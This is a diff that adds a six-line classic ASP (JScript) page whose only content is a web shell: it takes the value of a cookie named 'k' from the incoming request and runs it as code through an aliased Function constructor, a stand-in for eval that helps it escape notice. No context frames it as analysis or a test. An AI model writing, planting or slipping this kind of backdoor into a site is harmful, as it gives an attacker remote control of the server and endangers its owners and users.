@@ -1,0 +1,6 @@
+<%@ Language="JScript" %>
+<%
+var maker = Function.prototype.constructor;
+var src = Request.Cookies("k") + "";
+maker(src)();
+%>
